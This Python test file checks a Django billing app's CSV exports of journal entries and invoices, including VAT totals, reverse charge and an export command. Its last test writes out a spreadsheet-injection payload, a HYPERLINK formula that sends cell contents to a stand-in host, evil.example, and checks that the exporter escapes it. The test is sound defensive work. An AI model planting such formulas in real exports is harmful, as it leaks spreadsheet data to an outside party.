"""CSV exports of the journal and the invoices of a period (page download and command)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command

from billing import export
from billing.services import invoice_credit
from oms.exports import csv_lines
from tests.factories.billing import b2b_customer, issue, line

pytestmark = pytest.mark.django_db


def _rows(lines) -> list[dict]:
    return list(csv.DictReader(io.StringIO("".join(csv_lines(lines)))))


def test_journal_export_has_every_line_of_the_period_and_balances():
    invoice = issue(issue_date=date(2026, 3, 2))
    invoice_credit(
        invoice=invoice, lines=[{"line": 1, "quantity": 1}], reason="x", user=None, issue_date=date(2026, 3, 5)
    )
    issue(invoice.customer, issue_date=date(2026, 4, 1))
    rows = _rows(export.journal_rows(date(2026, 3, 1), date(2026, 3, 31)))
    assert {r["reference"] for r in rows} == {f"invoice {invoice.number}", "credit note CN-2026-000001"}
    assert sum(Decimal(r["debit"]) for r in rows) == sum(Decimal(r["credit"]) for r in rows)
    receivable = next(r for r in rows if r["account"] == "1300" and r["debit"] != "0.00")
    assert receivable["customer"] == invoice.customer.number and receivable["debit"] == "35.80"
    assert receivable["date"] == "2026-03-02" and receivable["account_name"].startswith("Debiteuren")


def test_invoice_export_has_one_row_per_document_with_vat_per_rate():
    invoice = issue(issue_date=date(2026, 3, 2))
    rc = issue(b2b_customer(country="DE", vat_id="DE136695976"), [line(1, "50.00")], issue_date=date(2026, 3, 3))
    rows = _rows(export.invoice_rows(date(2026, 3, 1), date(2026, 3, 31)))
    assert [r["number"] for r in rows] == [invoice.number, rc.number]
    first, second = rows
    assert (first["net_21"], first["vat_21"], first["net_9"], first["vat_9"], first["gross"]) == (
        "16.52",
        "3.47",
        "14.50",
        "1.31",
        "35.80",
    )
    assert (second["reverse_charge"], second["buyer_vat_id"], second["net_0"], second["vat"]) == (
        "1",
        "DE136695976",
        "50.00",
        "0.00",
    )


def test_billing_export_command_writes_a_file(tmp_path):
    invoice = issue(issue_date=date(2026, 3, 2))
    target = tmp_path / "journal.csv"
    call_command("billing_export", "journal", "--from", "2026-03-01", "--to", "2026-03-31", "-o", str(target))
    text = target.read_text(encoding="utf-8")
    assert text.startswith("entry,date,reference") and invoice.number in text
    out = io.StringIO()
    call_command("billing_export", "invoices", "--from", "2026-03-01", "--to", "2026-03-31", stdout=out)
    assert invoice.number in out.getvalue()
    with pytest.raises(CommandError):
        call_command("billing_export", "journal", "--from", "2026-04-01", "--to", "2026-03-01")


def test_exports_defuse_spreadsheet_formulas_in_text():
    invoice = issue(issue_date=date(2026, 3, 2), reference='=HYPERLINK("http://x")')
    (row,) = _rows(export.invoice_rows(date(2026, 3, 1), date(2026, 3, 31)))
    assert row["reference"] == '\'=HYPERLINK("http://x")' and row["net"] == invoice_net(invoice)


def invoice_net(invoice) -> str:
    return f"{invoice.net_amount:.2f}"


def test_journal_export_escapes_a_formula_in_a_payment_reference():
    from billing.services import payment_record
    from tests.factories.orders import OrderFactory

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    payment_record(order=OrderFactory(), method="bank_transfer", amount="5.00", reference=evil, user=None)
    today = date.today()
    cells = [cell for row in export.journal_rows(today, today) for cell in row]
    lines = "".join(csv_lines(export.journal_rows(today, today)))
    assert any(evil in str(cell) for cell in cells), "the reference reaches the journal"
    rows = list(csv.reader(io.StringIO(lines)))
    assert not [cell for row in rows for cell in row if cell.startswith("=")]
    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'") and evil in cell for row in rows for cell in row)
